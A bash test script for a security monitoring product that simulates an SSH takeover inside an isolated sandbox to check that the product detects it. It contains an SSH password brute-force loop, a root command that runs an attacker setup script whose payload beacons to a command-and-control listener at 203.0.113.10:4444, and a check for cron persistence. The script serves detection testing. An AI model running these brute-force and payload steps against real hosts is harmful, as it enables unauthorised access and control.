#!/bin/bash
# takeover.test.sh — ../shared/SCENARIO.md for real: a server and an agent
# as they run in production, an SSH brute force against a sandboxed copy of
# this machine, then the attacker's setup script (awsd_attack.sh) run in the
# SSH session as root; Yamori must tell the story on its own:
#   - one incident, named for what happened, with the SCENARIO's alerts;
#   - an alert story going from the SSH session's shell down to each command;
# and an administrator's ordinary session (benign_admin.sh) must raise no
# high-severity alert.
#
# The sandbox (sandbox.sh) has its own mount and network namespaces: /etc,
# /root, /usr/lib, /usr/local and /var are overlays, the network is
# loopback plus 203.0.113.10 (the attacker's address). The real OpenSSH
# server runs there and logs to a file the agent follows (--sshd-log).
set -u
cd "$(dirname "$0")/../.."
BIN=$(cd "${YAMORI_SAN_BIN:-build/san}" && pwd)   # absolute: nsenter starts in /
Y="$BIN/yamori"
A="$BIN/yamori-agent"
ROOT=$(pwd)
pass() { echo "PASS scenario_takeover/$1"; }
fail() { echo "FAIL scenario_takeover/$1: $2"; }
if [ "$(id -u)" -ne 0 ]; then
    echo "SKIP scenario_takeover/all: needs root (sandbox namespaces, the sensor)"
    exit 0
fi
for tool in sshpass /usr/sbin/sshd nsenter unshare; do
    if ! command -v "$tool" >/dev/null; then
        echo "SKIP scenario_takeover/all: $tool is missing (scripts/deps.sh installs it)"
        exit 0
    fi
done
. tests/scenarios/sandbox.sh

T=$(mktemp -d /tmp/yamori-takeover.XXXXXX)
chmod 755 "$T"
SB="$T/sb"
SERVER= AGENT=
cleanup() {
    [ -n "$AGENT" ] && kill -TERM "$AGENT" 2>/dev/null && wait "$AGENT" 2>/dev/null
    [ -n "$SERVER" ] && kill -TERM "$SERVER" 2>/dev/null && wait "$SERVER" 2>/dev/null
    [ -d "$SB" ] && sandbox_destroy "$SB" 2>/dev/null
    rm -rf "$T"
}
trap cleanup EXIT
export HOME="$T/home"
mkdir -p "$HOME"
PORT=$((20000 + RANDOM % 20000))
SSH_PORT=2222
PASSWORD="Tr0ub4dor-$RANDOM"

wait_for() {   # wait_for TRIES PATTERN CMD...: until CMD's output matches; prints it
    local tries=$1 pat=$2 out=""; shift 2
    for _ in $(seq 1 "$tries"); do
        out=$("$@" 2>&1)
        if grep -qE -- "$pat" <<<"$out"; then
            echo "$out"
            return 0
        fi
        sleep 0.5
    done
    echo "$out"
    return 1
}

# ---------------------------------------------------------------- server and agent
echo "admin-password-$RANDOM$RANDOM" > "$T/admin-password"
chmod 644 "$T/admin-password"
mkdir -p "$T/data" && chown nobody "$T/data"
"$Y" server --set "data_dir=$T/data" --set "listen=127.0.0.1:$PORT" --set user=nobody \
    --set "admin_password_file=$T/admin-password" --set "public_url=https://127.0.0.1:$PORT" \
    >"$T/server.log" 2>&1 &
SERVER=$!
if ! wait_for 300 '^yamori server ready' cat "$T/server.log" >/dev/null; then
    fail setup "the server did not start: $(tail -5 "$T/server.log")"
    exit 0
fi
if ! "$Y" login "https://127.0.0.1:$PORT" --user admin --password-file "$T/admin-password" \
        --ca "$T/data/tls/ca.pem" >"$T/login.log" 2>&1 \
   || ! "$Y" onboard --one-time --expires 1h --output "$T/pkg.json" >>"$T/login.log" 2>&1 \
   || ! "$A" enroll "$T/pkg.json" --config-dir "$T/etc" >>"$T/login.log" 2>&1; then
    fail setup "login/onboard/enroll: $(tail -5 "$T/login.log")"
    exit 0
fi
if ! sandbox_create "$SB" || ! sandbox_sshd "$SB" "$SSH_PORT" "$PASSWORD"; then
    fail setup "cannot create the sandbox with its SSH server"
    exit 0
fi
"$A" --config-dir "$T/etc" --state-dir "$T/state" --status-file "$T/agent-status.json" \
    --sshd-log "$SB/sshd.log" >"$T/agent.log" 2>&1 &
AGENT=$!
if ! wait_for 120 '"health": *"active"' "$Y" devices --json >/dev/null; then
    fail setup "the agent did not become active: $(tail -5 "$T/agent.log")"
    exit 0
fi
DEVICE=$(hostname)
sandbox_spawn "$SB" "$T/c2.log" "$BIN/helpers/c2_listener" 203.0.113.10 4444 "$T/c2-received" >/dev/null

# ---------------------------------------------------------------- the attack
ssh_to() {   # ssh_to PASSWORD CMD: root@sandbox from the attacker's address
    sandbox_run "$SB" sshpass -p "$1" ssh -p "$SSH_PORT" -o StrictHostKeyChecking=no \
        -o UserKnownHostsFile=/dev/null -o BindAddress=203.0.113.10 -o PubkeyAuthentication=no \
        -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 -o ConnectTimeout=10 \
        -o LogLevel=ERROR root@127.0.0.1 "$2"
}
START=$(date -u +%Y-%m-%dT%H:%M:%SZ)
for i in $(seq 1 8); do
    ssh_to "wrong-$i" true >/dev/null 2>&1
done
ssh_to "$PASSWORD" "cp $ROOT/tests/scenarios/awsd_attack.sh /root/setup.sh && bash /root/setup.sh $BIN/helpers/runtime_payload 203.0.113.10 4444" \
    >"$T/attack.log" 2>&1
if wait_for 60 'beacon' cat "$T/c2-received" >/dev/null; then
    pass attack_ran_in_the_sandbox
else
    fail attack_ran_in_the_sandbox "the payload never reached its listener: $(tail -5 "$T/attack.log")"
fi

# ---------------------------------------------------------------- what the store has
logons_ok() {   # the brute force and the success, as the store has them
    local out
    out=$("$Y" events --device "$DEVICE" --type logon --since "$START" --limit 1000 --json 2>&1)
    [ "$(grep -c '"ActionType": *"LogonFailed"' <<<"$out")" -ge 8 ] \
        && grep -q '"ActionType": *"LogonSuccess"' <<<"$out" && grep -q '"RemoteIP": *"203.0.113.10"' <<<"$out"
}
ok=0
for _ in $(seq 1 120); do logons_ok && { ok=1; break; }; sleep 0.5; done
if [ $ok = 1 ]; then
    pass logons_from_the_attacker_stored
else
    out=$("$Y" events --device "$DEVICE" --type logon --since "$START" --limit 1000 --json 2>&1)
    fail logons_from_the_attacker_stored "$(grep -c '"LogonFailed"' <<<"$out") failures: $(grep -E '"(ActionType|LogLine)"' <<<"$out" | head -30)"
fi
if out=$(wait_for 120 '/etc/cron.d/awsd' "$Y" events --device "$DEVICE" --type file --since "$START" \
            --limit 10000 --json); then
    pass persistence_write_stored
else
    fail persistence_write_stored "no file event for /etc/cron.d/awsd"
fi
